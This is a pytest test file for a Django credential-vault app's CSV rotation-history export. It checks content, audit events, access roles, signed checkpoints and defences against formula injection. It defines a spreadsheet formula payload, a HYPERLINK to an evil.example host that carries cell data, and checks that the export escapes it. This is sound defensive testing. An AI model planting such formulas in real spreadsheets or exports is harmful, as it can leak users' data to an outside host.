"""The rotation history of a date range as CSV: content, formula safety, audited, roles."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse

from keyvault.audit.chain import audit_verify
from keyvault.audit.checkpoint_verify import audit_verify_checkpoints
from keyvault.audit.checkpoints import (
    Checkpoint,
    checkpoint_file,
    checkpoint_parse,
)
from keyvault.audit.export import csv_safe
from keyvault.audit.history_export import HEADER
from keyvault.crypto.signing import VerifyKey
from keyvault.models import AuditAction, AuditEvent, Credential
from keyvault.rotation.services import credential_revoke, credential_rotate, rotation_secret_clean
from tests.factories import ATLASSIAN_URL, MakeCredential, new_token
from tests.keyvault.checkpoint_helpers import public_key

# The export signs a checkpoint after its audit event commits: real transactions.
pytestmark = pytest.mark.django_db(transaction=True)

EXPORT_URL = reverse("keyvault:compliance_export")
REF = datetime(2027, 3, 15, 9, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def _days(n: int) -> datetime:
    return REF + timedelta(days=n)


@pytest.fixture
def history(make_credential: MakeCredential, admin_user: Any) -> dict[str, Any]:
    """Rotated 5 days late with a formula-like reason; revoked after 7 days expired; rotated
    long before the range; and the tokens, to look for where they must not be."""
    late, late_token = make_credential(
        name="@Atlassian acme", issued_at=_days(-300), now=_days(-300), expires_at=_days(-15)
    )
    new_token_text = new_token()
    secret = rotation_secret_clean(
        credential=late, scim_url="", token=new_token_text, expires_at=None, now=_days(-10)
    )
    credential_rotate(
        credential=late,
        secret=secret,
        actor=admin_user,
        now=_days(-10),
        reason=FORMULA,
        idp_updated=True,
    )
    revoked, revoked_token = make_credential(
        name="Slack acme", issued_at=_days(-300), now=_days(-300), expires_at=_days(-8)
    )
    credential_revoke(credential=revoked, reason="-offboarded", actor=admin_user, now=_days(-1))
    old, _ = make_credential(
        name="Old", issued_at=_days(-900), now=_days(-900), expires_at=_days(-600)
    )
    credential_revoke(credential=old, reason="long ago", actor=admin_user, now=_days(-700))
    return {
        "late": late,
        "revoked": revoked,
        "tokens": (late_token, new_token_text, revoked_token),
    }


def _export(client: Client, **data: str) -> tuple[Any, list[dict[str, str]], str]:
    """The response, the history rows and the body without its checkpoint trailer."""
    response = client.post(EXPORT_URL, data)
    assert response.status_code == 200, response.content
    assert response.streaming
    whole = b"".join(response.streaming_content).decode("utf-8")
    body, blank, trailer = whole.rpartition("\r\n\r\n")
    assert blank and trailer.startswith('"signed audit checkpoint"'), whole[-300:]
    body += "\r\n"
    return response, list(csv.DictReader(io.StringIO(body))), body


def _checkpoint_of(client: Client, **data: str) -> Checkpoint:
    response = client.post(EXPORT_URL, data)
    whole = b"".join(response.streaming_content).decode("utf-8")
    label, line = next(csv.reader(io.StringIO(whole.rstrip().splitlines()[-1])))
    assert label == "signed audit checkpoint"
    return checkpoint_parse(line)


def test_the_export_holds_every_retirement_of_the_range_with_its_lapse(
    history: dict[str, Any], auditor_client: Client
) -> None:
    response, rows, body = _export(auditor_client, date_from="2027-01-01", date_to="2027-03-15")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith(
        'attachment; filename="keyvault-rotation-history-2027-01-01-2027-03-15-'
    )
    assert response["Cache-Control"] == "no-store"
    assert list(rows[0].keys()) == list(HEADER)
    late, revoked = history["late"], history["revoked"]
    new = Credential.objects.get(rotated_from__old_credential=late)
    assert rows == [
        {
            "integration": "'@Atlassian acme",
            "integration_id": str(late.integration_id),
            "credential_id": str(late.pk),
            "credential_hint": csv_safe(late.hint),
            "retired_as": "rotated",
            "retired_at": "2027-03-05T09:00:00+00:00",
            "by": "alice",
            "issued_at": "2026-05-19T09:00:00+00:00",
            "expires_at": "2027-02-28T09:00:00+00:00",
            "late": "yes",
            "days_lapsed": "5",
            "lead_time_days": "-5",
            "replaced_by_hint": csv_safe(new.hint),  # a hint may start with "-"
            "idp_updated": "yes",
            "idp_confirmed_at": "",
            "rotation_reason": "'" + FORMULA,
            "revoke_reason": "",
        },
        {
            "integration": "Slack acme",
            "integration_id": str(revoked.integration_id),
            "credential_id": str(revoked.pk),
            "credential_hint": csv_safe(revoked.hint),
            "retired_as": "revoked",
            "retired_at": "2027-03-14T09:00:00+00:00",
            "by": "alice",
            "issued_at": "2026-05-19T09:00:00+00:00",
            "expires_at": "2027-03-07T09:00:00+00:00",
            "late": "yes",
            "days_lapsed": "7",
            "lead_time_days": "",
            "replaced_by_hint": "",
            "idp_updated": "",
            "idp_confirmed_at": "",
            "rotation_reason": "",
            "revoke_reason": "'-offboarded",
        },
    ]
    for secret in (*history["tokens"], ATLASSIAN_URL):
        assert secret not in body


def test_no_cell_can_start_a_formula(history: dict[str, Any], admin_client: Client) -> None:
    _, rows, _ = _export(admin_client, date_from="0001-01-01", date_to="9999-12-31")
    assert len(rows) == 3
    for row in rows:
        for value in row.values():
            if re.fullmatch(r"-?\d+", value):
                continue  # a number stays a number (a lead time of -5 days)
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_the_export_is_audited_with_what_and_which_range(
    history: dict[str, Any], auditor_client: Client, auditor_user: Any
) -> None:
    head_before = AuditEvent.objects.latest("seq").seq
    _, rows, _ = _export(auditor_client, date_from="2027-01-01", date_to="2027-03-15")
    event = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
    assert event.actor == auditor_user
    assert event.details == {
        "export": "rotation_history",
        "format": "csv",
        "date_from": "2027-01-01",
        "date_to": "2027-03-15",
        "checkpoint_seq": head_before,
        "rows": len(rows),
    }
    assert audit_verify().ok


def test_the_export_is_audited_only_once_its_stream_has_been_produced(
    history: dict[str, Any], auditor_client: Client
) -> None:
    response = auditor_client.post(EXPORT_URL, {"date_from": "2027-01-01"})
    assert not AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).exists()

    b"".join(response.streaming_content)

    assert AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).count() == 1


def test_the_audit_log_reads_the_export_as_a_sentence(
    history: dict[str, Any], auditor_client: Client
) -> None:
    _export(auditor_client, date_from="2027-01-01", date_to="2027-03-15")
    html = auditor_client.get(reverse("keyvault:audit_log")).content.decode()
    assert "carol exported the rotation history from 2027-01-01 to 2027-03-15 (CSV)" in html


def test_the_export_without_dates_covers_the_last_twelve_months(
    history: dict[str, Any], auditor_client: Client
) -> None:
    import time_machine

    with time_machine.travel(REF, tick=False):
        client = Client()
        client.force_login(get_user_model().objects.get(username="carol"))
        _, rows, _ = _export(client)
    assert [r["integration"] for r in rows] == ["'@Atlassian acme", "Slack acme"]
    event = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
    assert (event.details["date_from"], event.details["date_to"]) == ("2026-03-15", "2027-03-15")


@pytest.mark.parametrize(
    "data",
    [
        {"date_from": "2027-02-30"},
        {"date_to": "soon"},
        {"date_from": "2027-03-10", "date_to": "2027-03-01"},
    ],
)
def test_a_bad_range_is_refused_and_leaves_no_audit_event(
    db: Any, auditor_client: Client, data: dict[str, str]
) -> None:
    assert auditor_client.post(EXPORT_URL, data).status_code == 400
    assert not AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).exists()


def test_admins_and_auditors_may_export_and_no_one_else(
    history: dict[str, Any], admin_client: Client, auditor_client: Client
) -> None:
    assert admin_client.post(EXPORT_URL).status_code == 200
    assert auditor_client.post(EXPORT_URL).status_code == 200
    assert auditor_client.get(EXPORT_URL).status_code == 405
    nobody = get_user_model().objects.create_user(username="nobody", password="x" * 16)
    client = Client()
    client.force_login(nobody)
    before = AuditEvent.objects.count()
    assert client.post(EXPORT_URL).status_code == 403
    assert Client().post(EXPORT_URL).status_code == 302  # to the login page
    assert AuditEvent.objects.count() == before


def test_the_export_ends_with_a_signed_checkpoint_anchoring_every_event_it_lists(
    history: dict[str, Any], auditor_client: Client
) -> None:
    retirements = AuditEvent.objects.filter(
        action__in=[AuditAction.CREDENTIAL_ROTATED, AuditAction.CREDENTIAL_REVOKED]
    )
    head_before = AuditEvent.objects.latest("seq").seq

    checkpoint = _checkpoint_of(auditor_client, date_from="2027-01-01", date_to="2027-03-15")

    assert checkpoint.seq == head_before >= max(e.seq for e in retirements)
    assert AuditEvent.objects.get(seq=checkpoint.seq).hash == checkpoint.hash
    exported = AuditEvent.objects.get(action=AuditAction.AUDIT_EXPORTED)
    assert exported.details["checkpoint_seq"] == checkpoint.seq
    # It is a line of the checkpoint file, and verifies with the public key alone.
    assert checkpoint.to_line() in checkpoint_file().read_text()
    key = VerifyKey.parse(public_key())
    assert key.verify(checkpoint.signature, checkpoint.message())
    report = audit_verify_checkpoints(path=checkpoint_file(), public_keys=[key])
    assert report.ok


def test_an_existing_checkpoint_of_the_head_is_reused(
    history: dict[str, Any], auditor_client: Client, settings: Any
) -> None:
    settings.KEYVAULT_AUDIT_CHECKPOINT_EVERY = 1  # every event is anchored after its commit
    _checkpoint_of(auditor_client, date_from="2027-01-01")  # anchors the log up to now
    lines = checkpoint_file().read_text().splitlines()

    checkpoint = _checkpoint_of(auditor_client, date_from="2027-01-01", date_to="2027-03-15")

    # Only the every-N hook wrote, for the first export's own event; the second export reused
    # that checkpoint of the head rather than signing another.
    after = checkpoint_file().read_text().splitlines()
    assert checkpoint.to_line().strip() == lines[-1]
    assert len(after) == len(lines) + 1  # the second export's own event, anchored after it


@pytest.mark.django_db  # the whole request inside one transaction that never commits
def test_an_export_inside_an_open_transaction_says_no_checkpoint_was_signed(
    history: dict[str, Any], auditor_client: Client
) -> None:
    response = auditor_client.post(EXPORT_URL, {"date_from": "2027-01-01"})

    last = b"".join(response.streaming_content).decode().rstrip().splitlines()[-1]
    assert last.startswith('"signed audit checkpoint","none:')
    assert not checkpoint_file().exists()
